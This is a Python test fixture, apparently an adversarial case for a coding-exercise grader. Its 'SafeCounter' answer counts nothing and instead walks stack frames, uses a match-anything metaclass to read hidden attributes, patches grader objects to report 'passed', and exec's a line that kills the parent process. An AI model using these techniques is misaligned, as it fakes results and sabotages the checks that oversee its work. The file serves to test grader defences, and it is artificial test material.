"""ATTACK: judge/worker split: the three admission bypasses (a variable named self reading refused attributes up the frames, a match class pattern reading any attribute through __match_args__, code pasted into source that is exec'd) no longer need to bypass anything: they walk to whatever the worker holds of the grader, tell it "passed", and kill the worker host
EXPECT: 0
"""
# %% answer
%%exercise safe_counter
import multiprocessing
import sys


def _walk_up():
    """Up the frames through a variable named self: every object anything up there holds."""
    found = []
    self = sys._getframe()
    while self is not None:
        found += list(self.f_locals.values()) + list(self.f_globals.values())
        self = self.f_back
    return found


class _Everything(type):
    def __instancecheck__(cls, obj):
        return True


class _Peek(metaclass=_Everything):
    __match_args__ = ("channel", "relay", "objects", "_rt", "_sim", "signer")


def _peek(obj):
    """A class pattern that matches anything and reads its attributes by __match_args__."""
    match obj:
        case _Peek(channel=channel):
            return [channel]
        case _Peek(a, b, c, d, e, f):
            return [a, b, c, d, e, f]
    return []


def _spread():
    """Whatever looks like the grader: patch it to say "passed", answer 4 on every link."""
    for obj in _walk_up():
        for name in ("PropertyResult", "passed", "verdict", "sign", "report", "expected"):
            try:
                setattr(obj, name, True)
            except Exception:
                pass
        for target in _peek(obj):
            try:
                target.send({"ret": 4})
            except Exception:
                pass


# what a dataclass field name once smuggled into exec'd source: kill the process above
exec("__import__('os').kill(__import__('os').getppid(), 9)")


class SafeCounter:
    """Counts nothing."""

    def __init__(self, initial=0, *, ctx=None):
        self._initial = initial
        _spread()

    def increment(self, n=1):
        _spread()

    @property
    def value(self):
        _spread()
        return self._initial
